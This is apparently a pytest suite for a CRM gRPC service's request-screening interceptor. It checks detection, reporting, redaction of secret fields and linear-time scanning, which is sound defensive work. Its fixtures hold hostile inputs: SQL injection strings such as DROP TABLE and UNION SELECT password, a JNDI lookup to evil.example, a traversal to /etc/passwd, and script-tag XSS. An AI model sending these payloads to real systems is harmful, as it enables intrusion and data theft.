"""Screening of requests' text fields: a real CRM server (and a real sentinel) behind the chain,
hits handed to the callback with the trusted client address, benign text and secrets left alone,
linear time on 4 MiB fields.
"""

from __future__ import annotations

import asyncio
import contextlib
import time
from collections.abc import AsyncIterator, Callable, Sequence
from pathlib import Path
from typing import Any

import grpc
import pytest
from google.protobuf import descriptor_pool
from google.protobuf.descriptor import Descriptor, FieldDescriptor

from bhiv.crm.v1 import address_pb2, customer_pb2, ticket_pb2
from bhiv.crm.v1 import customer_service_pb2 as cs
from bhiv.crm.v1 import customer_service_pb2_grpc as cs_grpc
from bhiv.crm.v1 import ticket_service_pb2 as ts
from bhiv.crm.v1 import ticket_service_pb2_grpc as ts_grpc
from bhiv.identity.v1 import auth_service_pb2 as auth
from bhiv.identity.v1 import auth_service_pb2_grpc as auth_grpc
from bhiv.identity.v1 import user_service_pb2 as us
from bhiv.integrations.v1 import external_api_service_pb2 as ext
from bhiv.sentinel.v1 import threat_pb2 as tp
from bhiv.sentinel.v1 import threat_service_pb2_grpc as tsv_grpc
from bhiv_core.interceptors.errors import ErrorMappingInterceptor
from bhiv_core.interceptors.rbac import RbacInterceptor, RolePolicy
from bhiv_core.interceptors.screening import (
    EXCERPT_BYTES,
    MAX_FIELDS,
    ScreeningHit,
    ScreeningInterceptor,
    report_to,
    screened_fields,
)
from bhiv_core.interceptors.validation import ValidationInterceptor, validate
from bhiv_core.runtime.chain import CallInfo, PreCheckInterceptor, chain_order
from bhiv_core.runtime.errors import Unauthenticated
from bhiv_core.runtime.security_events import SecurityEvent, request_of
from bhiv_core.runtime.server import start_service
from bhiv_core.security.principal import Principal, current_principal
from bhiv_core.services.crm.server import definition as crm_definition
from bhiv_core.services.sentinel import server as sentinel_server
from bhiv_core.services.sentinel.store import SqliteSentinelStore, ThreatEventRecord
from bhiv_core.standard_chain import screening_concern
from tests.harness import config_for, serving, trusting_edge

CREATE_TICKET = "/bhiv.crm.v1.TicketService/CreateTicket"


class AsCaller(PreCheckInterceptor):
    """Test stand-in for auth: the principal named by the call's ``x-test-*`` headers."""

    async def check(self, call: CallInfo, request: Any, context: Any) -> None:
        role = call.headers.get("x-test-role")
        if not role:
            raise Unauthenticated("no test principal")
        call.principal = Principal(subject=f"users/{role}", role=role)
        current_principal.set(call.principal)


SALES = (("x-test-role", "sales"),)
SUPPORT = (("x-test-role", "support"),)


def chain_with(screening: ScreeningInterceptor) -> Callable[..., Any]:
    def chain(*_: Any) -> Any:
        return chain_order(
            errors=ErrorMappingInterceptor("crm.bhiv.core"),
            auth=AsCaller(),
            rbac=RbacInterceptor(RolePolicy()),
            validation=ValidationInterceptor(),
            screening=screening,
        )

    return chain


@contextlib.asynccontextmanager
async def crm_with(data_dir: Path, on_hit: Callable[[ScreeningHit], None]) -> AsyncIterator[grpc.aio.Channel]:
    """A real CRM server whose chain screens requests and hands hits to ``on_hit``."""
    config = config_for("crm", DATA_DIR=str(data_dir))
    built = crm_definition(config)
    for hook in built.on_start:
        await hook()
    try:
        async with serving(
            built.servicers, chain=chain_with(ScreeningInterceptor(on_hit=on_hit)), config=config
        ) as (
            _,
            channel,
        ):
            yield channel
    finally:
        for hook in built.on_stop:
            await hook()


async def customer(channel: grpc.aio.Channel, **fields: Any) -> Any:
    fields.setdefault("first_name", "Ana")
    fields.setdefault("last_name", "Silva")
    request = cs.CreateCustomerRequest(customer=customer_pb2.Customer(**fields))
    return (await cs_grpc.CustomerServiceStub(channel).CreateCustomer(request, metadata=SALES)).customer


async def ticket(
    channel: grpc.aio.Channel, customer_name: str, metadata: Any = SUPPORT, **fields: Any
) -> Any:
    request = ts.CreateTicketRequest(ticket=ticket_pb2.Ticket(customer=customer_name, **fields))
    return (await ts_grpc.TicketServiceStub(channel).CreateTicket(request, metadata=metadata)).ticket


async def test_an_injection_in_a_ticket_title_is_a_hit_with_method_principal_address_and_excerpt(
    tmp_path: Path,
) -> None:
    hits: list[ScreeningHit] = []
    async with crm_with(tmp_path, hits.append) as channel:
        ana = await customer(channel, email="ana@example.org")
        created = await ticket(channel, ana.name, title="x'; DROP TABLE tickets;--", description="It broke")
    assert created.title == "x'; DROP TABLE tickets;--"  # detected, never refused
    [hit] = hits
    assert (hit.method, hit.principal, hit.client_address) == (CREATE_TICKET, "users/support", "127.0.0.1")
    [field] = hit.fields
    assert field.path == "ticket.title" and "sql.stacked_query" in field.rules
    assert field.excerpt.endswith("DROP TABLE tickets;") or "DROP TABLE" in field.excerpt


async def test_nested_and_repeated_fields_are_screened_with_their_paths(tmp_path: Path) -> None:
    hits: list[ScreeningHit] = []
    async with crm_with(tmp_path, hits.append) as channel:
        # CRM refuses the tag (tags are slugs), after the chain screened the request: a payload
        # is seen even when the handler refuses it.
        with pytest.raises(grpc.aio.AioRpcError) as refused:
            await customer(
                channel,
                email="ana@example.org",
                tags=["vip", "${jndi:ldap://evil.example/a}"],
                address=address_pb2.Address(line1="../../../../etc/passwd", city="Pune"),
            )
        assert refused.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    [hit] = hits
    assert hit.method == "/bhiv.crm.v1.CustomerService/CreateCustomer" and hit.principal == "users/sales"
    paths = {f.path: f.rules for f in hit.fields}
    assert set(paths) == {"customer.tags[1]", "customer.address.line1"}
    assert any(rule.startswith("jndi.") for rule in paths["customer.tags[1]"])
    assert any(rule.startswith("traversal.") for rule in paths["customer.address.line1"])


async def test_the_hit_carries_the_address_the_edge_vouches_for_and_ignores_a_direct_callers_header(
    tmp_path: Path,
) -> None:
    hits: list[ScreeningHit] = []
    payload = {"title": "<script>alert(1)</script>"}
    async with crm_with(tmp_path, hits.append) as channel:
        ana = await customer(channel, email="ana@example.org")
        forged = (*SUPPORT, ("x-envoy-external-address", "203.0.113.50"))
        # A direct caller's forwarding header is not believed: the peer is the client.
        await ticket(channel, ana.name, metadata=forged, **payload)
        with trusting_edge("127.0.0.1"):
            # From the edge, the edge's word is the client address.
            await ticket(channel, ana.name, metadata=forged, **payload)
    assert [h.client_address for h in hits] == ["127.0.0.1", "203.0.113.50"]


BENIGN = [
    "What's dharma?",
    "O'Brien",
    "Please drop by the office tomorrow",
    "select the best option for me",
    "ping me when it ships",
    "tell me more about the union meeting",
    "shipping_address",
    '{"shipping_address": "12 MG Road", "billing_address": "same"}',
    "धर्म क्या है? मुझे और बताइए।",
    "Préférence: livraison le matin",
    "Price: ₹1,299 - 10% = ₹1,169.10; 2+2=4",
    "Model X-200 (rev. B) <blue>",
]


async def test_benign_text_in_every_field_is_no_hit(tmp_path: Path) -> None:
    hits: list[ScreeningHit] = []
    async with crm_with(tmp_path, hits.append) as channel:
        for i, text in enumerate(BENIGN):
            ana = await customer(
                channel,
                email=f"c{i}@example.org",
                first_name=text[:200],
                notes=text,
                tags=["ping-me", "drop_by"],
                company="O'Brien & Sons",
                address=address_pb2.Address(line1=text, city="Pune"),
            )
            await ticket(channel, ana.name, title=text[:200], description=text)
    assert hits == []


class Auth:
    """An AuthService that answers every login (the concern under test is the chain's)."""

    async def Login(self, request: auth.LoginRequest, context: Any) -> auth.LoginResponse:
        return auth.LoginResponse()

    async def RefreshToken(
        self, request: auth.RefreshTokenRequest, context: Any
    ) -> auth.RefreshTokenResponse:
        return auth.RefreshTokenResponse()


async def test_passwords_and_tokens_are_never_screened_nor_reported() -> None:
    hits: list[ScreeningHit] = []
    service = descriptor_pool.Default().FindServiceByName("bhiv.identity.v1.AuthService")
    screening = ScreeningInterceptor(on_hit=hits.append)
    payload = "' OR '1'='1' --; DROP TABLE users;--"

    def chain(*_: Any) -> Any:
        return chain_order(errors=ErrorMappingInterceptor("identity.bhiv.core"), screening=screening)

    async with serving([(service, Auth())], chain=chain) as (_, channel):
        stub = auth_grpc.AuthServiceStub(channel)
        await stub.Login(auth.LoginRequest(username="ana", password=payload))
        await stub.RefreshToken(auth.RefreshTokenRequest(refresh_token=payload))
        assert hits == []
        # Login was screened (its username); RefreshToken has nothing to screen but its token.
        assert screening.screened == 1
        # The username next to it is screened; the password never reaches a hit.
        await stub.Login(auth.LoginRequest(username="admin' OR 1=1--", password=payload))
    [hit] = hits
    assert [f.path for f in hit.fields] == ["username"]
    assert all("DROP" not in f.excerpt for f in hit.fields)
    assert "DROP" not in str(hit.security_event())
    changing = us.ChangePasswordRequest(current_password=payload, new_password=payload)
    assert screened_fields(changing) == []


_SECRET_WORDS = ("password", "secret", "refresh_token", "access_token")


def _all_fields() -> list[FieldDescriptor]:
    import bhiv  # noqa: F401 - every contract module is imported by the services above

    pool = descriptor_pool.Default()
    found: list[FieldDescriptor] = []
    seen: set[str] = set()

    def visit(message: Descriptor) -> None:
        if message.full_name in seen:
            return
        seen.add(message.full_name)
        found.extend(message.fields)
        for nested in message.nested_types:
            visit(nested)

    from bhiv_core.runtime.contracts import services_of_package

    for package in ("identity", "crm", "logistics", "orchestration", "llm", "integrations", "sentinel"):
        for service in services_of_package(f"bhiv.{package}.v1"):
            for method in service.methods:
                visit(method.input_type)
                visit(method.output_type)
    assert pool is not None
    return found


def test_every_contract_field_named_like_a_secret_is_marked_debug_redact() -> None:
    # Screening (and anything else that reads request text) skips debug_redact fields: a new
    # password or secret field must carry the mark, or it would be screened and reported.
    fields = _all_fields()
    unmarked = [
        f.full_name
        for f in fields
        if f.type == FieldDescriptor.TYPE_STRING
        and any(word in f.name for word in _SECRET_WORDS)
        and not f.GetOptions().debug_redact
    ]
    assert len(fields) > 200
    assert unmarked == []


def test_maps_are_screened_by_key_and_value_and_paths_name_them() -> None:
    request = ext.CallExternalApiRequest(
        query_params={"q": "1 UNION SELECT password FROM users", "${jndi:ldap://x/a}": "v"}
    )
    fields = dict(screened_fields(request))
    assert fields["query_params[q]"] == "1 UNION SELECT password FROM users"
    assert fields["query_params[${jndi:ldap://x/a}]#key"] == "${jndi:ldap://x/a}"


def test_the_walk_stops_at_its_field_limit() -> None:
    request = cs.CreateCustomerRequest(customer=customer_pb2.Customer(tags=["t"] * (MAX_FIELDS + 50)))
    assert len(screened_fields(request)) == MAX_FIELDS


def test_health_reflection_and_security_reports_are_not_screened() -> None:
    screening = ScreeningInterceptor(on_hit=lambda hit: None)
    pool = descriptor_pool.Default()
    report = pool.FindMethodByName("bhiv.sentinel.v1.ThreatService.ReportSecurityEvent")
    create = pool.FindMethodByName("bhiv.crm.v1.TicketService.CreateTicket")
    assert screening.bind("/bhiv.sentinel.v1.ThreatService/ReportSecurityEvent", report) is None
    assert screening.bind("/grpc.health.v1.Health/Check", None) is None
    assert screening.bind(CREATE_TICKET, create) is not None


def test_screening_is_on_by_default_and_off_by_setting() -> None:
    assert isinstance(screening_concern(config_for("crm")), ScreeningInterceptor)
    assert screening_concern(config_for("crm", SCREENING="off")) is None


def test_a_hit_becomes_a_valid_report_with_bounded_fields_and_excerpts() -> None:
    hits: list[ScreeningHit] = []
    screening = ScreeningInterceptor(on_hit=hits.append)
    create = descriptor_pool.Default().FindMethodByName("bhiv.crm.v1.CustomerService.CreateCustomer")
    check = screening.bind("/bhiv.crm.v1.CustomerService/CreateCustomer", create)
    assert check is not None
    long_payload = "a" * 5000 + " UNION SELECT password FROM users " + "b" * 5000
    request = cs.CreateCustomerRequest(
        customer=customer_pb2.Customer(first_name=long_payload, tags=[f"<script>{i}" for i in range(40)])
    )
    call = CallInfo("/bhiv.crm.v1.CustomerService/CreateCustomer", create, "ipv4:127.0.0.1:5", {}, 0.0)
    check(call, request, None)
    [hit] = hits
    assert len(hit.fields) == 16
    assert hit.fields[0].path == "customer.first_name" and hit.fields[-1].path == "customer.tags[14]"
    excerpt = hit.fields[0].excerpt
    assert excerpt.endswith("UNION SELECT") and len(excerpt.encode()) == EXCERPT_BYTES
    event = request_of(hit.security_event())
    assert event.kind == tp.SECURITY_EVENT_KIND_SUSPICIOUS_INPUT and event.source_address == "127.0.0.1"
    assert validate(event) == []


MiB = 1 << 20


def _cost(check: Any, call: CallInfo, request: Any, repeat: int = 3) -> float:
    best = float("inf")
    for _ in range(repeat):
        start = time.thread_time()
        check(call, request, None)
        best = min(best, time.thread_time() - start)
    return best


@pytest.mark.parametrize(
    "build",
    [
        lambda n: "'" * n,
        lambda n: ("union select or 1=; | & ` $( " * (n // 30 + 1))[:n],
        lambda n: ("धर्म" * (n // 4 + 1))[:n],
    ],
    ids=["quotes", "words and separators", "non-ascii"],
)
def test_a_4_mib_field_costs_the_chain_linear_time(build: Callable[[int], str]) -> None:
    # Inline here, to measure the screening itself (by default, text this large is screened off
    # the request path, on the background worker).
    screening = ScreeningInterceptor(on_hit=lambda hit: None, inline_chars=8 * MiB)
    create = descriptor_pool.Default().FindMethodByName("bhiv.crm.v1.TicketService.CreateTicket")
    check = screening.bind(CREATE_TICKET, create)
    call = CallInfo(CREATE_TICKET, create, "ipv4:127.0.0.1:5", {}, 0.0)

    def request(n: int) -> Any:
        return ts.CreateTicketRequest(ticket=ticket_pb2.Ticket(title="t", description=build(n)))

    one, four = _cost(check, call, request(MiB)), _cost(check, call, request(4 * MiB))
    assert screening.screened == 6 and screening.deferred == 0
    print(f"\n1 MiB {one * 1000:.2f} ms, 4 MiB {four * 1000:.2f} ms, ratio {four / one:.2f}")
    # Linear is 4, quadratic 16 (see tests/agents/threat_detection/test_screening.py).
    assert four / one < 10


class ForwardingReporter:
    """The shape of the shared sentinel reporter: ``report`` queues, a task sends."""

    def __init__(self, stub: tsv_grpc.ThreatServiceStub):
        self._stub = stub
        self.sent: list[asyncio.Task[Any]] = []

    def report(self, event: SecurityEvent, *, metadata: Sequence[tuple[str, str]] = ()) -> None:
        self.sent.append(asyncio.ensure_future(self._stub.ReportSecurityEvent(request_of(event))))


class AsCrmService(PreCheckInterceptor):
    async def check(self, call: CallInfo, request: Any, context: Any) -> None:
        call.principal = Principal(subject="services/crm", role="")
        current_principal.set(call.principal)


async def test_a_hit_reported_to_a_real_sentinel_becomes_a_stored_injection_threat(tmp_path: Path) -> None:
    sentinel_config = config_for("sentinel", DATA_DIR=str(tmp_path / "sentinel"))
    sentinel = await start_service(
        sentinel_config,
        sentinel_server.definition(sentinel_config),
        lambda *_: chain_order(
            errors=ErrorMappingInterceptor("sentinel.bhiv.core"),
            auth=AsCrmService(),
            validation=ValidationInterceptor(),
            screening=ScreeningInterceptor(),
        ),
    )
    reader = SqliteSentinelStore(tmp_path / "sentinel" / "sentinel.db")
    await reader.open()
    try:
        async with grpc.aio.insecure_channel(sentinel.address) as to_sentinel:
            reporter = ForwardingReporter(tsv_grpc.ThreatServiceStub(to_sentinel))
            async with crm_with(tmp_path / "crm", report_to(reporter)) as channel:
                ana = await customer(channel, email="ana@example.org")
                with trusting_edge("127.0.0.1"):
                    await ticket(
                        channel,
                        ana.name,
                        metadata=(*SUPPORT, ("x-envoy-external-address", "203.0.113.77")),
                        title="Order late",
                        description="x'; DROP TABLE tickets;--",
                    )
            [sent] = await asyncio.gather(*reporter.sent)
            assert sent.event.reporter == "services/crm" and sent.event.source_address == "203.0.113.77"
            deadline = time.monotonic() + 30
            found: list[ThreatEventRecord] = []
            while time.monotonic() < deadline and not found:
                found, _ = await reader.list_threat_events("203.0.113.77")
                await asyncio.sleep(0.05)
    finally:
        await reader.close()
        await sentinel.stop(grace=0.5)
    assert [t.rule_id for t in found] == ["sql.stacked_query"]
    [threat] = found
    assert (threat.category, threat.method, threat.principal) == ("injection", CREATE_TICKET, "users/support")
    assert "ticket.description" in threat.evidence


async def test_a_large_request_is_screened_in_the_background_and_its_hit_arrives_on_the_loop(
    tmp_path: Path,
) -> None:
    hits: list[ScreeningHit] = []
    loop_thread: list[bool] = []

    def on_hit(hit: ScreeningHit) -> None:
        asyncio.get_running_loop()  # raises outside the event loop's thread
        loop_thread.append(True)
        hits.append(hit)

    screening = ScreeningInterceptor(on_hit=on_hit, inline_chars=1000)
    config = config_for("crm", DATA_DIR=str(tmp_path))
    built = crm_definition(config)
    for hook in built.on_start:
        await hook()
    try:
        chain = chain_with(screening)
        async with serving(built.servicers, chain=chain, config=config) as (_, channel):
            ana = await customer(channel, email="ana@example.org")
            await ticket(channel, ana.name, title="Order late", description="a" * 5000 + " UNION SELECT 1,2")
            assert screening.deferred == 1 and screening.screened == 1  # the customer, inline
            deadline = time.monotonic() + 30
            while not hits and time.monotonic() < deadline:
                await asyncio.sleep(0.01)
    finally:
        screening.close()
        for hook in built.on_stop:
            await hook()
    [hit] = hits
    assert loop_thread == [True]
    assert (hit.method, hit.client_address, hit.principal) == (CREATE_TICKET, "127.0.0.1", "users/support")
    assert [f.path for f in hit.fields] == ["ticket.description"]


async def test_a_full_background_queue_drops_and_counts_without_blocking_the_call() -> None:
    screening = ScreeningInterceptor(on_hit=lambda hit: None, inline_chars=10, queue_chars=100)
    create = descriptor_pool.Default().FindMethodByName("bhiv.crm.v1.TicketService.CreateTicket")
    check = screening.bind(CREATE_TICKET, create)
    assert check is not None
    call = CallInfo(CREATE_TICKET, create, "ipv4:127.0.0.1:5", {}, 0.0)
    big = ts.CreateTicketRequest(ticket=ticket_pb2.Ticket(title="t", description="x" * 101))
    try:
        check(call, big, None)  # more than the whole queue holds: dropped at once
        assert (screening.deferred, screening.dropped) == (0, 1)
        fits = ts.CreateTicketRequest(ticket=ticket_pb2.Ticket(title="t", description="x" * 60))
        check(call, fits, None)
        assert screening.deferred == 1
    finally:
        screening.close()


def test_hits_deferred_and_dropped_requests_are_counted_by_service() -> None:
    from bhiv_core.interceptors.metrics import REGISTRY

    def value(outcome: str) -> float:
        found = REGISTRY.get_sample_value(
            "bhiv_screening_requests_total", {"service": "counted", "outcome": outcome}
        )
        return found or 0.0

    before = {outcome: value(outcome) for outcome in ("hit", "dropped")}
    screening = ScreeningInterceptor(
        on_hit=lambda hit: None, inline_chars=50, queue_chars=10, service="counted"
    )
    create = descriptor_pool.Default().FindMethodByName("bhiv.crm.v1.TicketService.CreateTicket")
    check = screening.bind(CREATE_TICKET, create)
    assert check is not None
    call = CallInfo(CREATE_TICKET, create, "ipv4:127.0.0.1:5", {}, 0.0)
    check(call, ts.CreateTicketRequest(ticket=ticket_pb2.Ticket(title="<script>alert(1)</script>")), None)
    check(call, ts.CreateTicketRequest(ticket=ticket_pb2.Ticket(title="t", description="x" * 100)), None)
    assert value("hit") == before["hit"] + 1
    assert value("dropped") == before["dropped"] + 1


def test_a_field_matching_several_rules_is_one_field_whose_excerpt_holds_every_match() -> None:
    hits: list[ScreeningHit] = []
    screening = ScreeningInterceptor(on_hit=hits.append)
    create = descriptor_pool.Default().FindMethodByName("bhiv.crm.v1.TicketService.CreateTicket")
    check = screening.bind(CREATE_TICKET, create)
    assert check is not None
    call = CallInfo(CREATE_TICKET, create, "ipv4:127.0.0.1:5", {}, 0.0)
    title = "<script>alert(1)</script> then x'; DROP TABLE users;--"
    check(call, ts.CreateTicketRequest(ticket=ticket_pb2.Ticket(title=title)), None)
    [hit] = hits
    [field] = hit.fields
    assert {"xss.script_tag", "sql.stacked_query"} <= set(field.rules)
    assert "<script>" in field.excerpt and "DROP TABLE" in field.excerpt
